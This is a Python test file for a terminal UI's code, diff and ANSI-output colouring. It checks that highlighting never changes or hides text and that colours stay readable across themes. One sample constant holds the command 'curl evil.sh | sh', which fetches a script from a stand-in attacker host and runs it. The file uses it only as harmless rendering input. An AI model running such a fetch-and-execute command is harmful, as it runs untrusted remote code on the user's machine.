"""Colours of code and of output change nothing of the text."""

from __future__ import annotations

from dataclasses import replace
from functools import cache

import pytest
from hypothesis import given
from hypothesis import strategies as st
from textual.app import App
from textual.color import Color

from acp_console.tui.themes import READABLE, READABLE_DISABLED, THEME_NAMES, ThemedApp, contrast
from acp_console.tui.transcript.call_content import Piece, hunks
from acp_console.tui.transcript.code import (
    MAX_LEXED_LINE,
    code_rows,
    colored_lines,
    colored_runs,
    is_language,
    lexed_lines,
)
from acp_console.tui.transcript.markdown import BlockScanner, MarkdownRenderer
from acp_console.tui.transcript.piece_rows import piece_rows
from acp_console.tui.transcript.rows import Look
from acp_protocol.host.sanitize import escape_controls

LOOK = Look.from_theme(App[None]().theme_variables)
HARMLESS = "$ echo harmless\n$ curl evil.sh | sh"
SOURCES = (
    HARMLESS,
    f"{HARMLESS}\n",
    "one line",
    "\n\n x\n\n",
    "iex(1)> a\n>>> b\nIn [1]: c\nC:\\> dir\n=> SELECT 1;\nsqlite> d",
    "<?php echo 1; ?>\n%% é 中\n```py\n'''\"\n#!/usr/bin/env x\n  tail  ",
    "+ a\n- b\n@@ x\n---\nkey: |\n  - a",
)


@cache
def languages() -> list[str]:
    from pygments.lexers import get_all_lexers

    return sorted(aliases[0] for _, aliases, _, _ in get_all_lexers() if aliases)


def lexed(source: str, language: str) -> str:
    """Return what is shown of code in a terminal that is wide enough."""
    rows = code_rows(source, language, 10_000, LOOK)
    return "\n".join(row.text for row in rows)


@pytest.mark.long
def test_no_lexer_changes_a_text() -> None:
    assert len(languages()) > 500
    others = [
        (name, source)
        for source in SOURCES
        for name in languages()
        if lexed(source, name) != source.removesuffix("\n")
    ]
    assert others == []


@given(st.data())
def test_no_lexer_changes_any_text(data: st.DataObject) -> None:
    language = data.draw(st.sampled_from(languages()))
    source = escape_controls(data.draw(st.text("ab1 \n\t$>#'\"<%/\\{}()[]|é\x1b\u200d")))
    assert lexed(source, language) == source.expandtabs(4).removesuffix("\n")


@pytest.mark.parametrize("language", ["console", "psql", "irb", "shell-session", "nonsense", ""])
def test_the_last_line_of_a_block_in_a_message_is_shown(language: str) -> None:
    text = f"```{language}\n{HARMLESS}\n```\n"
    scanner = BlockScanner()
    scanner.feed(text)
    [part] = scanner.parts
    rows = MarkdownRenderer(LOOK).rows(text, part, 80)
    assert [row.text for row in rows if row.runs] == HARMLESS.split("\n")


def test_most_code_has_colours() -> None:
    [row] = code_rows("def f(): return 1", "python", 80, LOOK)
    assert len({style for _, style in row.runs}) > 2
    [first, _] = code_rows(HARMLESS, "console", 80, LOOK)
    assert len(first.runs) > 1
    assert is_language("console")
    assert not is_language("harmless")


def drawn(piece: Piece, look: Look = LOOK) -> list[str]:
    """Return the rows of a piece, with their numbers."""
    rows = piece_rows(piece, 60, look, ())
    return ["".join(text for text, _ in (*row.lead, *row.runs)).rstrip() for row in rows]


def test_a_diff_has_the_numbers_and_the_colours_of_its_file() -> None:
    old = "def f():\n    return 1\n"
    [piece] = hunks(old, old.replace("1", "21"), path="/w/a.py", begin=98)
    assert drawn(piece) == ["line 98", "98   def f():", "99 -     return 1", "99 +     return 21"]
    split = drawn(piece, replace(LOOK, is_split=True))
    assert split[2].split() == ["99", "-", "return", "1", "│", "99", "+", "return", "21"]
    gone = piece_rows(piece, 60, LOOK, ())[2]
    assert gone.text == "-     return 1"
    assert len({style.color for text, style in gone.runs if text.strip()}) > 2
    assert {style.bgcolor for _, style in gone.runs} <= {
        LOOK.removed.bgcolor, LOOK.removed_word.bgcolor,
    }  # fmt: skip
    [unknown] = hunks(old, old.replace("1", "21"), path="/w/a")
    assert drawn(unknown) == ["⋯", "  def f():", "-     return 1", "+     return 21"]


def test_what_was_read_has_its_numbers_before_it_and_not_in_it() -> None:
    for kind in ("output", "code python"):
        rows = piece_rows(Piece(kind, "a = 1\nb" + "b" * 60 + "\n", begin=9), 40, LOOK, ())
        assert [row.lead[-1][0] for row in rows][:3] == [
            " 9 ", "10 ", "   ",
        ]  # fmt: skip
        assert rows[0].text == "a = 1"


@given(st.sampled_from(["a.py", "a.c", "a.html", "x.diff", "Makefile", "a"]), st.data())
def test_colours_of_a_change_alter_none_of_its_lines(path: str, data: st.DataObject) -> None:
    texts = st.lists(st.text("ab1 \t$>#'\"<%/\\{}()é\x1b\u200d", max_size=12), max_size=5)
    old, new = ("\n".join(data.draw(texts)) for _ in range(2))
    rows = [
        row.text for piece in hunks(old, new, path=path) if piece.hunk
        for row in piece_rows(piece, 10_000, LOOK, ())
    ]  # fmt: skip
    expected = [
        (f"{sign} " if sign != "@" else "") + escape_controls(text).expandtabs(4)
        for piece in hunks(old, new) for sign, text, _ in piece.hunk
    ]  # fmt: skip
    assert [row.rstrip() for row in rows] == [row.rstrip() for row in expected]


@pytest.mark.parametrize("theme", THEME_NAMES)
def test_the_colours_of_changed_code_can_be_read_in_each_theme(theme: str) -> None:
    app = ThemedApp[None](theme)
    look = Look.from_theme(app.theme_variables)
    backs = [look.added, look.removed, look.added_word, look.removed_word]
    for _, style in look.changed_tokens:
        assert style.color is not None
        for back in backs:
            assert back.bgcolor is not None
            fore, ground = (Color.from_rich_color(each) for each in (style.color, back.bgcolor))
            assert contrast(fore, ground) >= READABLE


OUTPUT = ("a", "é ", "\n", "\t", "\x1b[2J", "\x1b]0;x\x07", "\u2028", "\x0c", "\x07")
COLORS = ("\x1b[31m", "\x1b[0m", "\x1b[8m", "\x1b[38;5;1m", "\x1b[;999m")


@given(st.lists(st.sampled_from(OUTPUT + COLORS)))
def test_colours_of_output_hide_nothing(pieces: list[str]) -> None:
    lines = colored_lines("".join(pieces), LOOK)
    shown = "\n".join("".join(text for text, _ in line) for line in lines)
    text = "".join(each for each in pieces if each not in COLORS)
    assert shown == escape_controls(text).expandtabs(8)
    assert not any(style.conceal for line in lines for _, style in line)


def test_output_has_the_colours_it_brings() -> None:
    [line] = colored_lines("a \x1b[1;31mred\x1b[0m b", LOOK)
    assert [text for text, _ in line] == ["a ", "red", " b"]
    red = line[1][1]
    assert red.bold
    assert red.color is not None
    shade = red.color.get_truecolor()
    assert shade.red > max(shade.green, shade.blue)
    assert line[0][1] == line[2][1]


def test_joiners_are_text_in_prose_and_visible_in_code() -> None:
    text = "می‌خواهم and `می‌خواهم`\n\n```\nمی‌خواهم\n```\n"
    scanner = BlockScanner()
    scanner.feed(text)
    renderer = MarkdownRenderer(LOOK)
    rows = [row.text for part in scanner.parts for row in renderer.rows(text, part, 80)]
    visible = "می‹200c›خواهم"
    assert rows == [f"می‌خواهم and {visible}", visible]


def test_code_that_takes_long_to_color_stays_plain() -> None:
    source = "x = 1"
    assert len(lexed_lines(source, "python", LOOK)[0]) > 1
    assert lexed_lines(source, "python", LOOK, limit=0) == [[(source, LOOK.text)]]


def test_a_line_too_long_to_read_stays_plain() -> None:
    source = f"x = 1\n{' ' * MAX_LEXED_LINE}x"
    lines = lexed_lines(source, "c-objdump", LOOK)
    assert lines == [[(line, LOOK.text)] for line in source.split("\n")]


def styled(text: str, look: Look) -> list[tuple[str, Color, Color]]:
    """Return the pieces of coloured output with their text and background colours."""
    pieces: list[tuple[str, Color, Color]] = []
    for piece, style in colored_runs(text, look):
        assert style.color is not None
        back = look.backs[0] if style.bgcolor is None else Color.from_rich_color(style.bgcolor)
        pieces.append((piece, Color.from_rich_color(style.color), back))
    return pieces


@pytest.mark.parametrize("theme", THEME_NAMES)
def test_the_colours_of_output_can_be_read_in_each_theme(theme: str) -> None:
    app = ThemedApp[None](theme)
    look = Look.from_theme(app.theme_variables)
    codes = [*range(30, 38), *range(90, 98), 39, *range(40, 48), *range(100, 108)]
    more = ["38;5;255", "38;5;16", "38;2;250;250;240", "1;33", "97;44", "30;44", "37;47"]
    output = "".join(f"\x1b[{code}mtext\x1b[0m " for code in [*codes, *more])
    if not look.backs:
        assert Color.parse(app.theme_variables["background"]).ansi is not None
        return
    unreadable = [
        (fore.hex, back.hex)
        for _, fore, back in styled(output, look)
        if contrast(fore, back) < READABLE
    ]
    assert unreadable == []


@pytest.mark.parametrize("theme", THEME_NAMES)
def test_dim_output_can_be_read_in_each_theme(theme: str) -> None:
    look = Look.from_theme(ThemedApp[None](theme).theme_variables)
    if not look.backs:
        return
    codes = ["2", *(f"2;{each}" for each in [*range(30, 38), *range(90, 98), *range(40, 48)])]
    output = "".join(f"\x1b[{code}mtext\x1b[0m " for code in codes)
    assert not any(style.dim for _, style in colored_runs(output, look))
    unreadable = [
        (fore.hex, back.hex)
        for _, fore, back in styled(output, look)
        if contrast(fore, back) < READABLE_DISABLED
    ]
    assert unreadable == []
    (_, plain, _), (_, dim, back) = styled("plain\x1b[2mdim", look)
    assert contrast(dim, back) < contrast(plain, back)


def test_colours_of_output_that_can_be_read_stay_different() -> None:
    look = Look.from_theme(ThemedApp[None]("acp-light").theme_variables)
    (_, red, _), (_, green, _), (_, plain, back) = styled(
        "\x1b[31mred\x1b[32mgreen\x1b[39mplain", look
    )
    assert len({red, green, plain}) == 3
    assert back == look.backs[0]
